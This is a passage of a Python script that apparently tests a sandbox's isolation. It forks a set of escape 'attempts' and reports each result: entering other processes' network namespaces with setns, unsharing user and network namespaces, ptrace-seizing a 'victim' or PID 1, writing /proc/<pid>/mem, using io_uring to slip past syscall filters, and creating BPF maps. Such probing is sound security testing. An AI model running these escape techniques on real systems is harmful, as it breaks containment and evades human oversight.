            {"id": 2, "method": "http/request", "params": fetch},
        ):
            one.sendall(json.dumps(message).encode() + b"\n")
        answer = _read(one, b'"id":2')
    found = re.search(rb'"(?:bodyBase64|body)":"([^"]+)"', answer)
    return base64.b64decode(found[1]) if found else answer


# ------------------------------------------------------------------ namespaces and processes


def _enter(path: str) -> bytes:
    library = ctypes.CDLL(None, use_errno=True)
    descriptor = os.open(path, os.O_RDONLY)
    if library.setns(descriptor, 0) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return _direct(DENIED, 80)


_add("the network of a process outside", lambda: _enter(f"/proc/{FACTS['holder']}/ns/net"))


@_attempt("the network of any process that can be seen")
def _enter_any() -> bytes:
    for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int, reverse=True):
        with contextlib.suppress(OSError):
            if os.stat(f"/proc/{pid}/ns/net").st_ino == FACTS["network"]:
                return _enter(f"/proc/{pid}/ns/net")
    return b"there is none"


@_attempt("the network of process 1, the parent of all")
def _enter_first() -> bytes:
    """Outside it is another machine's."""
    if FACTS["outside"]:
        return _enter("/proc/self/ns/net")
    return _enter("/proc/1/ns/net")


@_attempt("a network namespace of its own")
def _unshare() -> str:
    if ctypes.CDLL(None, use_errno=True).unshare(0x4000_0000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return SUCCEEDED


@_attempt("a user namespace, which has all capabilities")
def _unshare_user() -> str:
    if ctypes.CDLL(None, use_errno=True).unshare(0x1000_0000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return SUCCEEDED


@_attempt("tracing a process outside, or the sandbox's first")
def _trace() -> str:
    library = ctypes.CDLL(None, use_errno=True)
    library.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    for pid in (FACTS["victim"], *([] if FACTS["outside"] else [1])):
        if library.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE
            return SUCCEEDED
    return os.strerror(ctypes.get_errno())


@_attempt("the memory of a process outside, or of the sandbox's first")
def _memory() -> str:
    for pid in (FACTS["victim"], *([] if FACTS["outside"] else [1])):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b", buffering=0):
            return SUCCEEDED
    return "refused"


@_attempt("a ring of calls that a filter does not see", may_lack=True)
def _ring() -> str:
    space = ctypes.create_string_buffer(256)
    library = ctypes.CDLL(None, use_errno=True)
    if library.syscall(425, 8, space) < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    return SUCCEEDED


@_attempt("a module of the kernel that watches the network")
def _bpf() -> str:
    space = struct.pack("IIII", 2, 4, 4, 1) + bytes(112)  # a map: an array
    library = ctypes.CDLL(None, use_errno=True)
    number = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
    if library.syscall(number, 0, space, len(space)) < 0:
        raise OSError(ctypes.get_errno(), "bpf")
    return SUCCEEDED


# ------------------------------------------------------------------ the program


def _make(attempt: Attempt, output: int) -> None:
    """In a process of its own."""
    signal.alarm(int(_SECONDS))
    error = None
    result: str | bytes = ""
    try:
        result = attempt.make()
    except OSError as failure:
        error = [failure.errno or 0, str(failure)]
    except Exception as failure:
        error = [-1, f"{type(failure).__name__}: {failure}"]
    text = result.decode("latin-1") if isinstance(result, bytes) else result
    os.write(output, json.dumps({"name": attempt.name, "output": text[:20_000], "error": error}).encode())


def _run(attempts: Iterator[Attempt], run: str) -> None:
    """Make attempts, some at once, and print a line for each."""
    running: dict[int, tuple[int, str]] = {}
    results: dict[int, bytes] = {}
    more = True
    while more or running:
        while more and len(running) < _AT_ONCE:
            attempt = next(attempts, None)
            if attempt is None:
                more = False
                break
            reading, writing = os.pipe()
            FACTS["token"] = token(run, attempt.name)
            pid = os.fork()
            if not pid:
                os.setpgid(0, 0)
                _make(attempt, writing)
                os._exit(0)
            os.close(writing)
            running[reading], results[reading] = (pid, attempt.name), b""
        for reading in select.select(list(running), [], [])[0]:
            data = os.read(reading, 65_536)
            results[reading] += data
            if not data:
                pid, name = running.pop(reading)
                os.close(reading)
                os.waitpid(pid, 0)
                nothing = json.dumps({"name": name, "output": "", "error": [-1, "too slow"]})
                print(results.pop(reading).decode() or nothing, flush=True)


def token(run: str, name: str) -> str:
    """What marks all that an attempt sends."""
    return f"t{run}n{list(ATTEMPTS).index(name)}z"


def main(settings: str) -> None:
    """Make the attempts that the settings name."""
    FACTS.update(json.loads(settings))
    _run((ATTEMPTS[name] for name in FACTS["names"]), FACTS["run"])


if __name__ == "__main__":
    main(sys.argv[1])
